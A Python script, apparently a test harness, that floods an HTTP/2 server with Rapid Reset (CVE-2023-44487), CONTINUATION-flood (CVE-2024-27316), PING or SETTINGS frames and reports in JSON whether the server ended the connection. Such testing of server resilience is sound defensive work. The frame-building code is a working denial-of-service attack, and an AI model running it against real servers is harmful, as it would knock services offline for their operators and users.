"""Floods a server over HTTP/2: http2_hostile.py PORT AUTHORITY FLOOD. Prints how the connection ended, in one line of JSON:
the frames that were sent, and the error code of GOAWAY where there was one."""

import json
import sys

import h2.events
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

from http2_connection import Connection

port, authority, flood = sys.argv[1:]
MOST = 200_000
connection = Connection(int(port), authority)
answers = list(connection.events(0.2))
head = connection.h2.encoder.encode(connection.headers("/healthz"))


def reset(number):
    """A request, and at once its withdrawal (CVE-2023-44487)."""
    stream = 2 * number + 1
    headers = HeadersFrame(stream, head, flags=["END_HEADERS", "END_STREAM"])
    return headers.serialize() + RstStreamFrame(stream, error_code=8).serialize()


def continuation(number):
    """A head without end (CVE-2024-27316)."""
    if number == 0:
        return HeadersFrame(1, head, flags=["END_STREAM"]).serialize()
    # A literal field that is not indexed, with a name of 1 and a value of 16 bytes.
    return ContinuationFrame(1, b"\x00\x01x\x10" + b"y" * 16).serialize()


def ping(number):
    return PingFrame(0, number.to_bytes(8, "big")).serialize()


def settings(number):
    return SettingsFrame(0, settings={1: 4096}).serialize()


def ended(code, sent):
    print(json.dumps({"ended": True, "code": code, "sent": sent}), flush=True)
    sys.exit()


make = {"reset": reset, "continuation": continuation, "ping": ping, "settings": settings}[flood]
sent = 0
while sent < MOST:
    try:
        connection.socket.settimeout(5)
        connection.socket.sendall(b"".join(make(number) for number in range(sent, sent + 100)))
        sent += 100
        # What the server answers is left unread, unless that ends the connection.
        if flood in ("ping", "settings") and sent < 20_000:
            continue
        for event in connection.events(0):
            if event is None:
                ended(None, sent)
            if isinstance(event, h2.events.ConnectionTerminated):
                ended(int(event.error_code), sent)
    except TimeoutError:
        # The server takes no more until its answers are taken: what it holds is bounded.
        print(json.dumps({"ended": False, "held": True, "sent": sent}), flush=True)
        sys.exit()
    except (ConnectionError, OSError):
        code = None
        try:
            for event in connection.events(1):
                if isinstance(event, h2.events.ConnectionTerminated):
                    code = int(event.error_code)
        except OSError:
            pass
        ended(code, sent)
print(json.dumps({"ended": False, "sent": sent}), flush=True)
